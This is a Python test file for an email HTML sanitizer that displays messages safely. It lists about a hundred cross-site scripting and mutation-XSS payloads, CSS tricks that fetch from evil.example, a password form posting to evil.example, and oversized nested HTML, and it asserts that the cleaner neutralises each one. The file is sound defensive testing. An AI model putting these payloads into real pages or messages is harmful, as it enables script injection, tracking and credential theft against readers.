"""The HTML of a mail, cleaned for "show original": a table of attacks, and what has to stay."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cs_plugin.mail.clean_html import clean, clean_style, fetches

# What may stand in an attribute that goes somewhere.
_SAFE = re.compile(r"(https?://[^/\\\s]|mailto:|tel:|/files/|data:image/(png|gif|jpeg|webp|bmp);base64,)", re.IGNORECASE)
_ATTRIBUTES = frozenset(
    "align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang loading referrerpolicy rel rowspan size span src start "
    "style target title type valign value width".split()
)


class _Judge(HTMLParser):
    """Collect what is not to be in a cleaned page, reading it as another program would."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math", "template", "noscript", "frame"):
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name in ("href", "src") and not _SAFE.match(value or ""):
                self.wrong.append(f"{name}={value}")
            if name == "style" and re.search(r"url|expression|@|\\|/\*|position|javascript|import|binding|behavior", value or "", re.IGNORECASE):
                self.wrong.append(f"style={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")


def _wrong(html: str) -> list[str]:
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong


def _parts(html: str) -> list[str]:
    """Return what HTML consists of, without the order in which nh3 writes the attributes that it adds."""
    return sorted(re.split(r"[\s>]+", html.replace(">", " > ")))


# Attacks: scripts, things that run when something happens, addresses that run, things that fetch or send, frames, CSS that tells or covers, names that
# hide a page's own, and HTML that becomes another one when it is read again.
ATTACKS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\0>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x oNeRrOr=alert(1)//", "<body onload=alert(1)>", "<div onmouseover='alert(1)'>x</div>", "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">', "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>", "<a href='/admin/delete'>x</a>", "<a href='https:/admin'>x</a>", "<a href='http:\\\\evil'>x</a>", "<a href='?x=1'>x</a>",
    "<a href='blob:x'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='cid:1'>x</a>", "<a href='data:image/png;base64,AAAA'>x</a>" * 0,
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:text/html,x'>", "<img src='/admin/logout'>", "<img src='javascript:alert(1)'>",
    "<img srcset='//evil.example/x 2x'>", "<img src=https://evil.example/p.gif>", "<img lowsrc=//evil.example dynsrc=//evil.example>",
    "<table background='https://evil.example/x'><tr><td background='//evil.example'>x</table>", "<body background=//evil.example/x>",
    "<video poster=//evil.example/x src=//evil.example/y></video>", "<audio src=//evil.example>", "<input type=image src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<style>body{background:url(//evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>", "<isindex action=javascript:alert(1)>", "<button formaction=javascript:alert(1)>x",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//evil.example></object>", "<embed src=//evil.example>",
    "<applet code=x></applet>", "<frameset><frame src=//evil.example></frameset>", "<portal src=//evil.example>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><image href=//evil.example/x>",
    "<svg><animate onbegin=alert(1)>", "<svg><use href='data:image/svg+xml,x#y'/></svg>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>", "<a ping=//evil.example href=https://ok.example>x</a>", "<a id=location name=cookie class=cs-button href=https://ok.example>x</a>",
    "<img name=getElementById id=body>", "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</div>", "<div style='margin-top:-500px'>cover</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>", "<div style='background:u\\72l(//evil.example)'>x</div>", "<div style='background:URL (//e)'>x</div>",
    "<div style='background-image:image-set(\"//evil.example\" 1x)'>x</div>", "<div style='list-style:url(//e)'>x</div>", "<div style='border-image:url(//e) 1'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>", "<div style='width:exp/**/ression(alert(1))'>x</div>", "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x)'>x</div>", "<div style='content:attr(title)'>x</div>", "<div style='color:red;}*{background:url(//e)'>x</div>",
    "<div style='font-family:\"x;background:url(//e)\"'>x</div>", "<div style=\"color:'red;background:url(//e)\">x</div>", "<div style='color:var(--x)'>x</div>",
    "<div style='@import \"//e\"'>x</div>", "<div style='width:calc(100% + 1px)'>x</div>", "<div style='cursor:url(//e),auto'>x</div>", "<div style='filter:url(//e#x)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<p title='</p><script>alert(1)</script>'>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg><foreignObject><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>", "<template><script>alert(1)</script></template>",
    "<select><style><img src=x onerror=alert(1)></style></select>", "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=x onerror=alert(1)></noembed>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p>a<table><p>b<td><a><table><a>", "<a href='https://ok.example' style='position:absolute' target=_self rel=opener>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<o:p onclick=alert(1)>x</o:p>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<div dir=rtl onx=1>\u202ex</div>",
)


@pytest.mark.shows("5.3")
@pytest.mark.parametrize("remote", [False, True], ids=["without remote pictures", "with remote pictures"])
@pytest.mark.parametrize("attack", [one for one in ATTACKS if one])
def test_nothing_runs_fetches_or_covers(attack: str, remote: bool):
    """Of an attack nothing is left that runs, sends, fetches unasked, or leaves its place; and what is left stays so when it is cleaned again."""
    cleaned = clean(attack, remote=remote)
    assert not _wrong(cleaned)
    assert _parts(clean(cleaned, remote=remote)) == _parts(cleaned)
    if not remote:
        assert not re.search(r"<[^>]*\ssrc=", cleaned)


@pytest.mark.shows("5.3")
@given(st.lists(st.sampled_from([
    "<script>", "</script>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<img src=x onerror=alert(1)>", "<table>", "<td>", "</table>", "<p>",
    "<a href=javascript:alert(1)>", "</a>", "<template>", "<noscript>", "</noscript>", "<select>", "<title>", "</title>", "<form>", "</form>", "<mglyph>", "<b>", "<div style='",
    "position:fixed", "url(//e)", "'>", '"', "'", "<p title=\"", "\">", "<textarea>", "</textarea>", "<xmp>", "x", "&lt;", "&#0;", "<foreignObject>", "<desc>", "<plaintext>",
]), max_size=25))
def test_no_mixture_of_attacks_gets_through(pieces: list[str]):
    """Parts of attacks in any order make none."""
    assert not _wrong(clean("".join(pieces)))


@pytest.mark.shows("5.3", "10.7")
def test_what_a_mail_looks_like_stays():
    """Letters, colours, tables and lists stay as they were sent."""
    html = '<table bgcolor="#ffffff" width="600"><tbody><tr><td style="color:#333;padding:4px" align="left"><b>Hi</b> <font color="red">you</font></td></tr></tbody></table>'
    cleaned = clean(html)
    for one in ('bgcolor="#ffffff"', 'width="600"', "color:#333;padding:4px", 'align="left"', "<b>Hi</b>", '<font color="red">you</font>'):
        assert one in cleaned


@pytest.mark.shows("5.3", "10.7")
def test_pictures_of_the_mail_come_from_this_host():
    """A picture in the mail itself is shown from its address here; one that the mail does not hold is left out."""
    images = {"logo@mail.example": "/files/7"}
    assert 'src="/files/7"' in clean('<img src="cid:logo@mail.example">', images=images)
    assert 'src="/files/7"' in clean('<img src="CID:logo%40mail.example">', images=images)
    assert "src=" not in clean('<img src="cid:other" alt="Other">', images=images)


@pytest.mark.shows("5.3")
def test_pictures_elsewhere_are_left_out_until_they_are_asked_for():
    """A remote picture leaves what is told instead of it, and is there when it is asked for, without a word of where it is shown."""
    html = '<img src="https://news.example/p.png" alt="Lamp">'
    assert "news.example" not in clean(html)
    assert 'alt="Lamp"' in clean(html)
    assert 'src="https://news.example/p.png"' in clean(html, remote=True)
    assert 'referrerpolicy="no-referrer"' in clean(html, remote=True)


@pytest.mark.shows("5.3")
def test_a_mail_says_whether_it_has_pictures_elsewhere():
    """Only a mail that has something to ask for is asked about."""
    assert fetches('<p>x</p><img src="https://news.example/p.png">')
    assert not fetches('<p>x</p><img src="cid:1"><a href="https://news.example/">y</a>')


@pytest.mark.shows("5.3")
def test_a_link_tells_nothing_and_opens_apart():
    """A link opens a page of its own, which learns nothing of where it came from and gets no hold of this one."""
    cleaned = clean('<a href="https://shop.example/" target="_top" rel="opener">x</a>')
    assert 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_a_style_keeps_what_is_safe():
    """Of a style attribute each declaration is judged by itself."""
    assert clean_style("COLOR: Red; position:fixed; margin:0 auto;background:url(x);width:50%;font-family:'Segoe UI', Arial") == (
        "color:Red;margin:0 auto;width:50%;font-family:'Segoe UI', Arial"
    )
    assert clean_style("color:rgb(1, 2, 3);border:1px solid #ccc !important") == "color:rgb(1, 2, 3);border:1px solid #ccc !important"


# HTML that browsers' parsers, and those made like them, make far more of than was there.
GROWING = {
    "depth": "<div>" * 100_000 + "x",
    "letters opened again": "<p>" + "".join(f"<b id={number}>" for number in range(400)) + "</p>" + "<p>x" * 50_000,
    "letters never closed": "".join(f"<p><font color={number}>" for number in range(50_000)),
    "letters across blocks": "<p>" + "".join(f"<font color={number}><div>" for number in range(250)) + "x</font>" * 50_000,
    "tables": "<table><font>" * 250 + "<p>x" * 50_000,
    "length": "<p>x" * 2_000_000,
}


@pytest.mark.parametrize("name", GROWING)
def test_cleaning_makes_no_more_of_a_mail_than_it_is(name: str):
    """What comes out is bounded by what went in, however it is nested."""
    assert len(clean(GROWING[name])) <= 6 * len(GROWING[name])


def test_what_cannot_be_cleaned_comes_as_text():
    """HTML that lies absurdly deep is shown as the text that it holds."""
    assert clean("<div>" * 5_000 + "a <b>&lt;b&gt;") == "<pre>a\n&lt;b&gt;</pre>"
